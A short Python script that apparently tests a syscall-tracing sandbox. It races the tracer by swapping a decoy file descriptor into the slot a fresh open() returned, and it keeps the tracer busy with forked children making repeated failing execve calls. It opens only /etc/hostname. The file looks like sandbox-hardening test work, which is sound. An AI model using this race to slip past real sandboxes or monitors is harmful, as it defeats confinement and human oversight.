"""Puts another file under the descriptor that was just opened, before the tracer looks at it."""
import ctypes
import fcntl
import os
import threading
import time

from attempts import libc

NUMBER = 40
decoy = os.open('/tmp/decoy', os.O_RDWR | os.O_CREAT)
for taken in range(decoy + 1, NUMBER):
    os.dup2(decoy, taken)


def keep_the_tracer_busy():
    """What it has to read for each of these calls gives the other thread its time."""
    parent = os.getpid()
    arguments = (ctypes.c_char_p * 201)(*[b''] * 200)
    for _ in range(2):
        if os.fork() == 0:
            while os.getppid() == parent:
                libc.execve(b'/tmp/missing', arguments, None)
            os._exit(0)


def swap():
    while going:
        if libc.fcntl(NUMBER, fcntl.F_GETFD) >= 0:
            libc.dup2(decoy, NUMBER)
            while going and libc.fcntl(NUMBER, fcntl.F_GETFD) >= 0:
                time.sleep(0)


keep_the_tracer_busy()
going = True
threading.Thread(target=swap).start()
end = time.monotonic() + 2
tries = 0
while time.monotonic() < end:
    tries += 1
    descriptor = libc.open(b'/etc/hostname', os.O_RDONLY)
    libc.close(NUMBER)
    if descriptor != NUMBER:
        libc.close(descriptor)  # the other one came too late, and had the number for itself
going = False
print('opened', tries, 'times')
